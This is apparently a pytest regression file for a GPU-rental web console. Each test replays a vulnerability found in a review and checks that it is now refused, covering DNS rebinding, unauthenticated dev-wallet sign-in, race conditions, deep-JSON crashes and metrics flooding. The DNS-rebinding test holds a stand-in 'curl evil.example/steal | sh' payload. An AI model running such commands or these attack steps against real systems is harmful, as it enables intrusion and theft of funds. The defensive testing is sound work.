"""Attacks on the web console, the market's /metrics and the renter's pending closes
that an attack review found working; each test played one and passes now that it
is refused. The holes, as found:

1. DNS rebinding: the origin check compares ``Origin`` with the request's own
   ``Host``, both chosen by the attacker's page once its name resolves to
   127.0.0.1; the page signs in as the development wallet, reads the CSRF token
   (same origin for the browser) and rents with the wallet's money.
2. ``l2gpu web --host 0.0.0.0 --dev-wallet``: /signin/dev needs no secret, only an
   Origin a stranger writes himself: anyone who reaches the port rents with the key.
3. The development wallet's 16-lease bound is checked before the (slow) market
   calls and the payer is registered after them: concurrent rents all pass.
4. The development wallet abandons (starts closing) a channel on *any* error of
   the rent call, including a lost answer after the market took the lease (what
   ``l2gpu rent``'s ``_lease_despite`` guards against): a live lease is left unpaid
   on a channel whose close has started.
5. The lease page fetches the output from seq 0 (the market answers the first 500
   chunks): after 500 chunks the page never shows new output; and "the last 200
   lines" is no byte bound: output without newlines makes each 1-second refresh
   up to the market's 16 MiB per lease.
6. The console has no body guard: 300 kB of '[' kill a --dev-wallet console
   (py_ecc raised the recursion limit; JSON parsed before the origin check); any
   body size is read.
7. /metrics labels requests by the raw HTTP method: made-up methods grow the
   series without bound (even refused, rate-limited requests are counted).
8. closing-channels.json: one record with a bad ``started_at`` makes ``pending()``
   raise (``l2gpu settle`` and every ``l2gpu rent`` die); records this version skips
   are deleted by the next write; two writers (``rent`` and ``settle --daemon``)
   lose each other's updates.
"""

from __future__ import annotations

import contextlib
import json
import threading
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from fastapi.testclient import TestClient

from l2gpu.client import MarketClient
from l2gpu.core.errors import L2gpuError
from l2gpu.web import renting
from l2gpu.web.app import create_console
from l2gpu.web.renting import DevWallet
from tests.agent.test_agent import World
from tests.api.helpers import described
from tests.market.helpers import PROVIDER, RENTER
from tests.web.test_console import ORIGIN, UncheckedRail, console, sign_in_dev

# -- 1. DNS rebinding ----------------------------------------------------------------


def test_a_rebound_dns_name_cannot_sign_in_as_the_dev_wallet_and_rent(tmp_path: Path) -> None:
    """evil.example first resolves to the attacker, then to 127.0.0.1: the victim's
    browser sends Host: evil.example:8700 and Origin: http://evil.example:8700, equal,
    so same_origin() passes; the cookie is set for evil.example, and the page, same
    origin for the browser, reads every response (the CSRF token too).
    Fix: accept only the Host names the console serves (TrustedHostMiddleware with
    127.0.0.1/localhost/the --host given), and compare Origin with that, never with
    the request's own Host."""
    world, web, _ = console(tmp_path)
    evil = {"host": "evil.example:8700", "origin": "http://evil.example:8700"}
    signed = web.post("/signin/dev", headers=evil, follow_redirects=False)
    if signed.status_code == 303:
        page = web.get("/", headers={"host": evil["host"]}).text
        csrf = page.split('name="csrf" value="')[1].split('"')[0]
        web.post(f"/rent/{world.offer.id}", headers=evil, follow_redirects=False,
                 data={"command": "curl evil.example/steal | sh", "hours": "720",
                       "csrf": csrf})  # fmt: skip
    assert signed.status_code >= 400, "a foreign Host signed in as the development wallet"
    assert world.renter.jobs() == []


# -- 2. a development wallet served beyond loopback ----------------------------------


def test_a_dev_wallet_console_on_a_public_address_is_not_open_to_strangers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """'l2gpu web --host 0.0.0.0 --dev-wallet' starts without a word; a stranger then
    POSTs /signin/dev with the Origin he likes (no browser needed) and rents.
    Fix: refuse --dev-wallet with a non-loopback --host, or require a secret printed
    at start (as Jupyter's token) for /signin/dev."""
    import uvicorn

    from l2gpu.cli import lease_rails
    from l2gpu.cli.main import main

    served: list[Any] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: served.append((app, kw)))
    monkeypatch.setattr(lease_rails, "_rail", lambda *a, **k: UncheckedRail())
    key = "0x" + (8).to_bytes(32, "big").hex()
    code = main(["--private-key", key, "web", "--api-url", "http://127.0.0.1:9",
                 "--host", "0.0.0.0", "--port", "18761", "--dev-wallet",
                 "--node", "http://127.0.0.1:9"])  # fmt: skip
    if not served:
        assert code != 0  # refused: fixed
        return
    app, options = served[0]
    assert options["host"] == "0.0.0.0"
    world = World(tmp_path)  # the market the console talks to, in process
    from l2gpu.web import app as console_app

    monkeypatch.setattr(
        console_app,
        "MarketClient",
        lambda url, key, http=None: MarketClient("", key, http=world.http),
    )
    stranger = TestClient(app, base_url="http://203.0.113.7:18761")
    reply = stranger.post("/signin/dev", headers={"origin": "http://203.0.113.7:18761"},
                          follow_redirects=False)  # fmt: skip
    assert reply.status_code != 303, "a stranger signed in as the development wallet"


# -- 3. the 16-lease bound, raced -----------------------------------------------------


def test_concurrent_rents_cannot_pass_the_dev_wallets_lease_bound(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """DevWallet.rent counts live payers under its lock, then lets go of it for the
    market's offer/quote, the rail's open and the rent; the payer is added at the
    end. FastAPI runs the sync route in a thread pool: N rents at once all see 0.
    Fix: reserve a slot under the lock before the first market call (release it on
    failure)."""
    arrived, everyone = [0], threading.Condition()

    class SlowMarket:
        key = RENTER

        def offer(self, offer_id: str) -> Any:
            return SimpleNamespace(price_per_gpu_second=1, provider=PROVIDER.address.checksum)

        def quote(self, offer_id: str, **kw: Any) -> Any:
            with everyone:  # wait (3 s at most) until every rent is past the bound check
                arrived[0] += 1
                everyone.notify_all()
                everyone.wait_for(lambda: arrived[0] >= 4, timeout=3)
            return SimpleNamespace(max_cost=10)

        def rent(self, offer_id: str, **kw: Any) -> Any:
            return SimpleNamespace(id=int(threading.get_ident() % 10**6),
                                   channel=SimpleNamespace(to_core=lambda: None))  # fmt: skip

    class Rail:
        def open(self, provider: Any, deposit: Any, *, lifetime: int) -> Any:
            return SimpleNamespace(description=None)

    monkeypatch.setattr(renting, "LeasePayer", lambda *a, **k: SimpleNamespace(done=False, paid=0))
    monkeypatch.setattr(renting, "voucher_domain", lambda channel: None)
    wallet = DevWallet(SlowMarket(), Rail(), max_leases=1, threads=False)  # type: ignore[arg-type]
    rented: list[int] = []

    def rent() -> None:
        with contextlib.suppress(L2gpuError):
            rented.append(wallet.rent("1", command="true", hours=1.0, max_price=None))

    threads = [threading.Thread(target=rent) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(20)
    assert len(rented) <= 1, f"{len(rented)} leases paid at once with max_leases=1"


# -- 4. a lost answer abandons a live lease's channel --------------------------------


class LostAnswer(MarketClient):
    """The market takes the rent; its answer is lost on the way back."""

    def rent(self, *args: Any, **kwargs: Any) -> Any:
        super().rent(*args, **kwargs)
        raise L2gpuError("cannot reach the market API: connection reset", "retry")


def test_a_lost_rent_answer_does_not_abandon_the_channel_of_a_live_lease(tmp_path: Path) -> None:
    """'l2gpu rent' asks the market whether it took the lease (_lease_despite) before
    closing the channel; the console's DevWallet.rent abandons at once on any
    L2gpuError. The lease lives on with no payer, on a channel whose close started:
    the provider serves seconds nobody will pay, the user is told renting failed.
    Fix: do what _lease_despite does (look the channel up in jobs(live=True); a
    refusal below 500 is the only sure 'not taken')."""
    world = World(tmp_path)
    rail = UncheckedRail()
    wallet = DevWallet(LostAnswer("", RENTER, http=world.http), rail,  # type: ignore[arg-type]
                       clock=world.clock, threads=False)  # fmt: skip
    web = TestClient(create_console("", dev_wallet=wallet, http=world.http), base_url=ORIGIN)
    csrf = sign_in_dev(web)
    web.post(f"/rent/{world.offer.id}", headers={"origin": ORIGIN}, follow_redirects=False,
             data={"command": "sleep 60", "hours": "0.05", "csrf": csrf})  # fmt: skip
    live = [j for j in world.renter.jobs(live=True)]
    assert live, "the market took the lease"
    abandoned = {c.channel_id.lower() for c in rail.abandoned}
    for lease in live:
        assert lease.channel.channel_id.lower() not in abandoned, (
            f"lease {lease.id} is live on a channel the console started closing"
        )
        assert lease.id in wallet.payers, f"lease {lease.id} is live and nobody pays it"


# -- 5. the lease page's output ------------------------------------------------------


def _lease_with_output(tmp_path: Path, chunks: list[str]) -> tuple[TestClient, int]:
    world, web, _ = console(tmp_path)
    csrf = sign_in_dev(web)
    rented = web.post(f"/rent/{world.offer.id}", headers={"origin": ORIGIN},
                      data={"command": "sleep 60", "hours": "0.05", "csrf": csrf},
                      follow_redirects=False)  # fmt: skip
    lease_id = int(rented.headers["location"].rsplit("/", 1)[1])
    world.agent.step()
    provider = MarketClient("", PROVIDER, http=world.http)
    step = 200 if max(map(len, chunks)) < 1000 else 1  # the market takes 256 KiB a request
    for start in range(0, len(chunks), step):
        provider._call("POST", f"/agent/leases/{lease_id}/logs",
                       json={"chunks": chunks[start:start + step]})  # fmt: skip
    return web, lease_id


def test_the_lease_page_shows_the_latest_output_after_500_chunks(tmp_path: Path) -> None:
    """lease_context calls logs(lease_id, 0): the market answers the FIRST 500
    chunks, so a chatty job's page freezes at chunk 500 (and re-downloads those 500
    chunks every second). Fix: keep the last seq per session/lease and ask with
    after=, or ask the market for the tail."""
    web, lease_id = _lease_with_output(tmp_path, [f"line {i}\n" for i in range(700)])
    live = web.get(f"/leases/{lease_id}/live").text
    assert "line 699" in live, "the page stopped at the market's first 500 chunks"


def test_the_lease_page_is_bounded_in_bytes_not_only_in_lines(tmp_path: Path) -> None:
    """LOG_TAIL bounds lines, not bytes: a job (or its provider) prints without a
    newline; the market keeps up to 16 MiB a lease (64 KiB chunks), and every
    1-second refresh of every open lease page fetches, joins and renders all of it:
    16 MiB a second per tab, from the console's memory and the market's.
    Fix: bound the tail in bytes (e.g. the last 64 KiB) and each line's length."""
    web, lease_id = _lease_with_output(tmp_path, ["A" * 65536 for _ in range(8)])
    live = web.get(f"/leases/{lease_id}/live")
    assert live.status_code == 200
    assert len(live.content) < 256 * 1024, f"a refresh of {len(live.content)} bytes"


# -- 6. the console reads any body, of any depth -----------------------------------

DEEP = """
import sys
import l2gpu.payments.rollup_rail  # what 'l2gpu web --dev-wallet --node URL' imports for its rail
from fastapi.testclient import TestClient
from l2gpu.web.app import create_console

origin = "http://127.0.0.1:8700"
web = TestClient(create_console("http://127.0.0.1:9"), base_url=origin,
                 raise_server_exceptions=False)
reply = web.post("/signin", content=b"[" * 300_000,
                 headers={"origin": origin, "content-type": "application/json"})
print("status", reply.status_code)
"""


def test_a_deeply_nested_body_does_not_kill_the_console() -> None:
    """The market, the node and the hub sit behind serving.guard.RequestGuard (body
    size, JSON depth) and call restore_recursion_limit(); the console does neither.
    'l2gpu web --dev-wallet' imports the rail (py_ecc: recursion limit 100,000), so
    300 kB of '[' in POST /signin (parsed before same_origin() runs, no session
    needed) overflow the C stack: the process dies (SIGSEGV), and with it the
    threads paying its leases. Reached by a DNS-rebound page or, with --host, by
    anyone. Fix: wrap the console in RequestGuard and restore the recursion limit
    in create_console, as create_app does."""
    import os
    import subprocess
    import sys

    src = str(Path(__file__).resolve().parents[2] / "src")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")])}
    done = subprocess.run([sys.executable, "-c", DEEP], capture_output=True, text=True, env=env,
                          timeout=300, check=False)  # fmt: skip
    assert done.returncode == 0, f"the console died: exit {done.returncode} {done.stderr[-300:]}"
    assert "status 4" in done.stdout


def test_the_console_refuses_a_huge_body_before_reading_it(tmp_path: Path) -> None:
    """No size limit: /signin/nonce and /signin read and parse any JSON body (and the
    form routes any form) before the origin check. Fix: RequestGuard(max_body=...)."""
    _, web, _ = console(tmp_path)
    reply = web.post("/signin/nonce", headers={"origin": ORIGIN},
                     json={"address": "0x" + "1" * 40, "pad": "x" * (8 * 1024 * 1024)})  # fmt: skip
    assert reply.status_code == 413, reply.status_code


# -- 7. /metrics label cardinality ---------------------------------------------------


def test_made_up_http_methods_do_not_grow_the_metrics_series(tmp_path: Path) -> None:
    """RequestMetrics labels with scope['method'] as sent; uvicorn passes any token
    as a method. Each new method is a new series in requests_total and 14 in the
    latency histogram, kept forever (memory, and every scrape grows). The limiter
    sits inside the metrics wrapper, so even 429s add series.
    Fix: label only known methods (GET, POST, DELETE, PUT, PATCH, HEAD, OPTIONS),
    else 'other'."""
    from l2gpu.api.app import create_app
    from l2gpu.api.service import MarketService
    from l2gpu.db import open_database
    from tests.market.helpers import CHAIN
    from tests.serving.test_metrics import samples

    service = MarketService(open_database(f"sqlite:///{tmp_path / 'm.db'}"), chain_id=CHAIN)
    api = TestClient(create_app(service, sweep_every=None))
    for i in range(50):
        api.request(f"X{i}", "/offers")
    got = samples(api.get("/metrics").text)
    methods = {labels["method"] for labels, _ in got["l2gpu_market_requests_total"]}
    assert len(methods) <= 10, f"{len(methods)} method labels from one client"


# -- 8. closing-channels.json --------------------------------------------------------


def _record(salt: int, started_at: Any = 1) -> dict[str, Any]:
    channel = described(RENTER, PROVIDER.address, 10**18, salt)
    return {"channel": channel.to_json(), "node": None, "started_at": started_at}


def test_one_bad_started_at_does_not_hide_every_pending_close(tmp_path: Path) -> None:
    """pending() guards from_json but calls int(item.get('started_at')) outside the
    try: 'soon', null or 1e400 raise ValueError/TypeError/OverflowError out of
    pending(). 'l2gpu settle' dies on it, and so does every 'l2gpu rent'
    (_settle_earlier_closes calls store.pending() unguarded) and every _abandon
    (add() reads pending() first): one bad record blocks renting and settling.
    Fix: move the int() into the try and catch OverflowError too."""
    from l2gpu.payments.closing import ClosingChannels

    store = ClosingChannels(tmp_path)
    store.path.write_text(json.dumps([_record(1), _record(2, "soon")]))
    assert [p.started_at for p in store.pending()] == [1]  # the good one; the bad one skipped


def test_records_this_version_skips_survive_the_next_write(tmp_path: Path) -> None:
    """'a record this version cannot read is skipped, not fatal' and 'an unreadable
    file is none (and kept)': but add() and remove() rewrite the file from pending(),
    so the next rent's close silently deletes them (a newer version's records, or a
    whole file that is not a list), and their deposits wait on the user remembering.
    Fix: carry the raw items you cannot read through every write (or refuse to write
    over a file you cannot read)."""
    from l2gpu.payments.closing import ClosingChannels

    unknown = {"channel": {"version": 9, "what": "a newer design"}, "node": None,
               "started_at": 5}  # fmt: skip
    store = ClosingChannels(tmp_path)
    store.path.write_text(json.dumps([unknown, _record(1)]))
    store.add(described(RENTER, PROVIDER.address, 10**18, 3), None, 7)
    assert unknown in json.loads(store.path.read_text()), "a skipped record was deleted"


def test_two_writers_do_not_lose_each_others_closes(tmp_path: Path) -> None:
    """'l2gpu settle --daemon' and 'l2gpu rent' each read the list, change it and write
    it whole: without a lock, one writer's list lacks the other's change, and the lost
    record is a deposit nobody settles. Eight writers at once, ten closes each: every
    one is kept."""
    from l2gpu.payments.closing import ClosingChannels

    def writer(first: int) -> None:
        store = ClosingChannels(tmp_path)  # each its own, as two processes are
        for salt in range(first, first + 10):
            store.add(described(RENTER, PROVIDER.address, 10**18, salt), None, salt)

    threads = [threading.Thread(target=writer, args=(100 * i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert len(ClosingChannels(tmp_path).pending()) == 80


# -- 9. framing and injected scripts --------------------------------------------------


def test_every_response_carries_the_content_security_policy(tmp_path: Path) -> None:
    """No header kept another site from framing the console (a transparent frame over
    Rent or Claim: clickjacking), and nothing but escaping kept an injected script
    from running. Fix: web.security_headers on every response, the guard's and the
    host check's refusals included."""
    _, web, _ = console(tmp_path)
    replies = [
        web.get("/"),  # a page
        web.get("/static/console.js"),  # an asset
        web.post("/signin/nonce", headers={"origin": ORIGIN},
                 json={"pad": "x" * (8 * 1024 * 1024)}),  # refused by the body guard
        web.get("/", headers={"host": "attacker.example"}),  # refused by the host check
    ]  # fmt: skip
    assert [r.status_code for r in replies] == [200, 200, 413, 400]
    for reply in replies:
        policy = dict(
            part.strip().split(" ", 1)
            for part in reply.headers["content-security-policy"].split(";")
        )
        assert policy["script-src"] == "'self'"  # no inline script, no eval
        assert policy["frame-ancestors"] == "'none'"
        assert policy["connect-src"] == "'self'"
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert reply.headers["x-frame-options"] == "DENY"
        assert len(reply.headers.get_list("content-security-policy")) == 1
